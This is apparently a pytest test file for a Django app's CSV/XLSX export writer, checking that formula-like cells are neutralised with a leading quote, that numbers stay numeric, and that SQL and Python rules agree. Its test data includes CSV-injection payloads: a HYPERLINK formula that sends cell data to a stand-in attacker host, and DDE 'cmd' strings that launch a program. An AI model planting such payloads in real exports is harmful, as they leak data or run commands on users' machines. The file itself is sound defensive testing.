"""kipp.exports, the one export writer: formula-safe CSV and XLSX, numbers kept as numbers, and the same rule in SQL
(for the exports PostgreSQL writes with COPY)."""

import csv
import datetime
import io
import random
from decimal import Decimal

import pytest
from django.db import connection
from django.utils import timezone
from openpyxl import load_workbook

from kipp import exports

FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A2,"Klik")'
DANGEROUS = [
    FORMULA,
    "+62 411 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tteks biasa",
    "\r=1+1",
    "\rteks",
    "  =1+1",
    " \t+1",
    "\n-1",
    "\x0b\x0c@A1",
    "-",
    "=",
]
HARMLESS = [
    "Sapa Masyarakat Sekitar (SMS)",
    "a=b",
    "1+1",
    "'=sudah dinetralkan",
    "",
    "   ",
    "Kabupaten Jeneponto",
    "\u00a0=1",  # no-break space is not one of the blanks that are skipped (the same in SQL)
    "＝1+1",  # a full-width equals sign is not a formula in a spreadsheet
    "#N/A",
]


def opens_formula(cell):
    """What a spreadsheet would run as a formula (written here again, apart from kipp.exports, for the tests)."""
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\n\x0b\x0c\r")[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_gets_a_quote(text):
    assert opens_formula(text)
    assert exports.safe_cell(text) == "'" + text
    assert not opens_formula(exports.safe_cell(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert not opens_formula(text)
    assert exports.safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, 0, 12, -0.5, 85.19, Decimal("-1.2500"), None, datetime.date(2023, 2, 20)])
def test_numbers_dates_and_none_stay_as_they_are(value):
    assert exports.safe_cell(value) is value


def test_csv_writes_numbers_as_digits_and_neutralises_text_only():
    rows = [["title", "total", "delta", "rank"], [FORMULA, exports.fixed(85.19), exports.fixed(-1.5), 2]]
    text = exports.csv_text(rows)
    quoted = '"\'=HYPERLINK(""http://attacker.invalid/?x=""&A2,""Klik"")"'
    assert text == f"title,total,delta,rank\r\n{quoted},85.1900,-1.5000,2\r\n"
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[1] == ["'" + FORMULA, "85.1900", "-1.5000", "2"]


def test_csv_bom_line_ends_none_and_batches():
    rows = [["a", "b"], ["x", None], ["-y", 3]]
    assert exports.csv_bytes(rows, bom=True) == "\ufeffa,b\r\nx,\r\n'-y,3\r\n".encode()
    assert exports.csv_text(rows, line_end="\n") == "a,b\nx,\n'-y,3\n"
    assert list(exports.csv_lines(rows, batch=2)) == ["a,b\r\nx,\r\n", "'-y,3\r\n"]
    assert "".join(exports.csv_lines(rows, batch=1)) == exports.csv_text(rows)


def test_fixed_keeps_numbers_numbers():
    assert exports.fixed(None) is None
    assert exports.fixed(81.666666) == Decimal("81.6667")
    assert str(exports.fixed(100)) == "100.0000"
    assert str(exports.fixed(-0.00004)) == "-0.0000"


def _sheet(data):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows())


def test_xlsx_text_is_never_a_formula_and_numbers_are_numeric():
    tz_time = timezone.make_aware(datetime.datetime(2023, 2, 20, 9, 30))
    rows = [
        ["title", "total", "delta", "rank", "note", "when"],
        [FORMULA, 85.19, Decimal("-1.25"), -3, "#N/A", tz_time],
        ["  =1+1", None, 0, 1, "bel\x07 dan \x00 nul", datetime.date(2023, 2, 20)],
    ]
    cells = _sheet(exports.xlsx_bytes(rows, title="Hasil", column_formats={1: "0.0000", 2: "0.0000"}))
    assert all(cell.data_type != "f" for row in cells for cell in row)
    header, first, second = cells
    assert [c.value for c in header] == rows[0]
    assert first[0].value == "'" + FORMULA and first[0].data_type == "s"
    assert (first[1].value, first[1].data_type, first[1].number_format) == (85.19, "n", "0.0000")
    assert (first[2].value, first[2].data_type) == (-1.25, "n")
    assert (first[3].value, first[3].data_type) == (-3, "n")
    assert (first[4].value, first[4].data_type) == ("#N/A", "s")  # text, not an error cell
    assert first[5].value == datetime.datetime(2023, 2, 20, 9, 30)  # the local time
    assert second[0].value == "'  =1+1"
    assert second[1].value is None
    assert second[4].value == "bel dan  nul"  # characters XLSX cannot hold are dropped, not a 500
    assert header[1].number_format == "General"


@pytest.mark.django_db
def test_the_sql_rule_is_the_python_rule():
    rng = random.Random(17)
    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\x0b", "\x0c", "a", "1", "'", "\u00a0", "é", '"']
    samples = DANGEROUS + HARMLESS + ["".join(rng.choices(alphabet, k=rng.randint(0, 5))) for _ in range(400)]
    sql = f"SELECT {exports.safe_sql('x')} FROM unnest(%s::text[]) WITH ORDINALITY AS t (x, n) ORDER BY n"  # noqa: S608 - a fixed expression
    with connection.cursor() as cursor:
        cursor.execute(sql, [samples])
        from_sql = [row[0] for row in cursor.fetchall()]
    assert from_sql == [exports.safe_cell(s) for s in samples]
    assert sum(1 for s in samples if exports.is_dangerous(s)) > 100  # the sample really holds dangerous text


def test_responses_carry_type_and_a_safe_file_name():
    response = exports.csv_response('hasil "x"/y.csv', [["a"], ["=1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="y.csv"'
    assert response.content == b"a\r\n'=1\r\n"
    streamed = exports.csv_streaming_response("daftar.csv", iter([["a"], ["@b"]]), bom=True)
    assert b"".join(streamed.streaming_content) == "\ufeffa\r\n'@b\r\n".encode()
    workbook = exports.xlsx_response("hasil.xlsx", [["a"], ["+1"]], title="Hasil")
    assert workbook["Content-Type"] == exports.XLSX_TYPE
    assert _sheet(workbook.content)[1][0].value == "'+1"
